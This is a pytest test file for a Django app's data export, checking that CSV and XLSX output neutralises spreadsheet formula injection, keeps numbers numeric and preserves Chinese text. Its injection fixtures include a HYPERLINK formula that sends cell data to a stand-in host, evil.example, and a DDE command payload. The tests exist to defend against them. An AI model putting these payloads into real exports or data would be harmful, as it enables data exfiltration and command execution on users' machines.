"""The files themselves: formulas neutralised in spreadsheets, numbers kept numeric, Chinese intact."""

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import polars as pl
import pytest

from veracity.catalog.models import Product
from veracity.exports.services import export_create
from veracity.exports.tests.helpers import csv_rows, read
from veracity.exports.writers import neutralise
from veracity.sales.models import Order
from veracity.sales.tests.factories import customer_for

pytestmark = pytest.mark.django_db

INJECTIONS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
    "plain": "plain",
    "a=1": "a=1",
}


def test_neutralise_prefixes_every_formula_trigger():
    for text, expected in INJECTIONS.items():
        assert neutralise(text) == expected
    assert neutralise("\0x") == "'\0x"


@pytest.fixture
def injected(rep_li):
    for number, text in enumerate(INJECTIONS):
        customer_for(rep_li, code=f"X-{number:02d}", name=text, notes=text)


def test_csv_neutralises_formulas(injected, rep_li):
    rows = csv_rows(read(export_create(actor=rep_li, entity="customers", filters={"sort": "code"}, fmt="csv")))
    header = rows[0]
    names = [row[header.index("Name")] for row in rows[1:]]
    notes = [row[header.index("Notes")] for row in rows[1:]]
    assert names == list(INJECTIONS.values())
    assert notes == list(INJECTIONS.values())


def test_xlsx_neutralises_formulas_and_keeps_numbers_numeric(injected, rep_li, manager_mei):
    data = read(export_create(actor=rep_li, entity="customers", filters={"sort": "code"}, fmt="xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    names = [row[header.index("Name")] for row in rows[1:]]
    # XML turns a stored carriage return into a line feed; the cell is still neutralised.
    assert names == [value.replace("\r", "\n") for value in INJECTIONS.values()]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert all(isinstance(row[header.index("ID")], int) for row in rows[1:])

    order = Order.objects.create(number="-1", customer=customer_for(rep_li, code="N-1"),
                                 order_date=dt.date(2026, 3, 5), salesperson=rep_li,
                                 total_amount=Decimal("-12.50"), cost_total=Decimal("3.25"))
    data = read(export_create(actor=manager_mei, entity="orders", filters={}, fmt="xlsx"))
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Order number"] == "'-1"  # text that looks like a formula is neutralised …
    assert row["Total"] == -12.5 and isinstance(row["Total"], float)  # … a negative number stays a number
    assert row["Margin"] == -15.75
    assert row["Order date"] == dt.datetime(2026, 3, 5)
    assert row["ID"] == order.pk


def test_csv_keeps_negative_numbers_as_numbers(rep_li, manager_mei):
    Order.objects.create(number="N-1", customer=customer_for(rep_li, code="N-1"), order_date=dt.date(2026, 3, 5),
                         salesperson=rep_li, total_amount=Decimal("-12.50"))
    rows = csv_rows(read(export_create(actor=manager_mei, entity="orders", filters={}, fmt="csv")))
    assert dict(zip(rows[0], rows[1], strict=True))["Total"] == "-12.50"


def test_chinese_survives_csv_with_a_bom_and_xlsx(rep_li):
    customer_for(rep_li, code="ZH-1", name="北京字节跳动科技有限公司", city="北京", notes="备注：“你好”")
    data = read(export_create(actor=rep_li, entity="customers", filters={}, fmt="csv"))
    assert data.startswith("\ufeff".encode())
    rows = csv_rows(data)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["Name"], row["City"], row["Notes"]) == ("北京字节跳动科技有限公司", "北京", "备注：“你好”")
    sheet = openpyxl.load_workbook(io.BytesIO(read(export_create(actor=rep_li, entity="customers", filters={},
                                                                 fmt="xlsx")))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert dict(zip(rows[0], rows[1], strict=True))["Name"] == "北京字节跳动科技有限公司"


def test_headers_and_choices_follow_the_users_language(rep_li):
    from django.utils import translation

    customer_for(rep_li, code="ZH-2", name="上海", lifecycle_status="lead")
    with translation.override("zh-hans"):
        export = export_create(actor=rep_li, entity="customers", filters={}, fmt="csv")
    rows = csv_rows(read(export))  # read outside the override, as Django streams after the view returns
    assert "客户编号" in rows[0] and "生命周期阶段" in rows[0]
    assert "线索" in rows[1]


def test_parquet_is_readable_by_polars_with_the_right_rows_and_types(rep_li, manager_mei):
    for number in range(25):
        customer_for(rep_li, code=f"PQ-{number:02d}", name=f"=客户{number}")
    frame = pl.read_parquet(io.BytesIO(read(export_create(actor=rep_li, entity="customers",
                                                          filters={"sort": "code"}, fmt="parquet"))))
    assert frame.height == 25
    assert frame["name"][0] == "=客户0"  # a data format: stored values, not spreadsheet text
    assert frame.schema["id"] == pl.Int64 and frame.schema["created_at"] == pl.Datetime("us", "UTC")

    Product.objects.create(sku="P-1", name="Lock", list_price=Decimal("99.95"), cost_price=Decimal("50.00"))
    frame = pl.read_parquet(io.BytesIO(read(export_create(actor=manager_mei, entity="products", filters={},
                                                          fmt="parquet"))))
    assert frame["list_price"].to_list() == [Decimal("99.95")]
    assert frame["margin"].to_list() == [Decimal("49.95")]


def test_parquet_of_an_empty_list_has_the_columns_and_no_rows(rep_li):
    frame = pl.read_parquet(io.BytesIO(read(export_create(actor=rep_li, entity="activities", filters={},
                                                          fmt="parquet"))))
    assert frame.height == 0 and "subject" in frame.columns


def test_xlsx_drops_characters_excel_cannot_hold(rep_li):
    customer_for(rep_li, code="CTRL-1", name="bell\x07 and form feed\x0c")
    sheet = openpyxl.load_workbook(io.BytesIO(read(export_create(actor=rep_li, entity="customers", filters={},
                                                                 fmt="xlsx")))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert dict(zip(rows[0], rows[1], strict=True))["Name"] == "bell and form feed"
